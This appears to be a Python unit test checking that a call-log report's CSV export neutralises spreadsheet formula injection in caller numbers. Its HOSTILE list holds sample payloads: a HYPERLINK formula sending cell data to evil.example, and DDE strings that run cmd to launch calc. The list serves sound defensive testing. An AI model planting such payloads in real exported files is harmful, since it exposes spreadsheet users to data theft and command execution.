"""The report's CSV opened in a spreadsheet: caller-chosen values never run as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from dispatcher.calllog import db, journey, report_figures, report_render, store_journeys
from tests.unit.calllog import calllog_scenarios as sc
from tests.unit.calllog.test_report_figures import DAY, NOW, day_of_calls

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("number", HOSTILE)
def test_given_a_formula_as_caller_number_when_exported_as_csv_then_neutralised(
        number: str) -> None:
    """A caller whose number is a formula calls twice (a repeat caller, so listed); in the
    CSV the cell starts with a single quote, the rest kept for the reader."""
    engine = db.make_engine("sqlite://")
    db.upgrade(engine)
    sessions = db.make_sessionmaker(engine)
    records = day_of_calls()
    for i in range(2):
        evil_records = journey.run(
            sc.abandoned_in_ivr(f"evil{i}", sc.T0 + 600 + i, after=30, number="0811").ami(),
            sc.DIRECTORY)
        # The journey builder keeps only clean numbers (dispatcher.callerid); the CSV must
        # still neutralise whatever a row holds (one written by an older version, say).
        for record in evil_records:
            record.caller_number = number
        records += evil_records
    with db.transaction(sessions) as session:
        for record in records:
            store_journeys.save_journey(session, record)
    with sessions() as session:
        data = report_figures.build_report(session, DAY, now=NOW)
    engine.dispose()
    rows = list(csv.reader(io.StringIO(report_render.render_csv(data), newline="")))
    items = [row[1] for row in rows if row[0] == "repeat_callers" and row[1]]
    assert "'" + number.replace("\r", " ") in items
    assert all(len(row) == 4 for row in rows)  # no row split by a CR in a value
    for row in rows:
        for cell in row:
            assert not cell.startswith(
                report_render._FORMULA_START
            ) or report_render._PLAIN_NUMBER.fullmatch(cell), cell


def test_given_plain_numbers_when_exported_then_kept_as_numbers() -> None:
    """+62 caller numbers, negative and decimal figures stay as they are (a spreadsheet reads
    them as numbers, never as formulas); text that merely contains '=' is unchanged."""
    for value in ("+6281234567890", "-3", "12.5", "081234", "0", "a=b"):
        assert report_render.csv_safe(value) == value
    for value in ("+62 812", "-", "=1", "@x", "+1+1", "-1-1"):
        assert report_render.csv_safe(value) == "'" + value
    assert report_render.csv_safe(None) == "" and report_render.csv_safe(True) == "True"
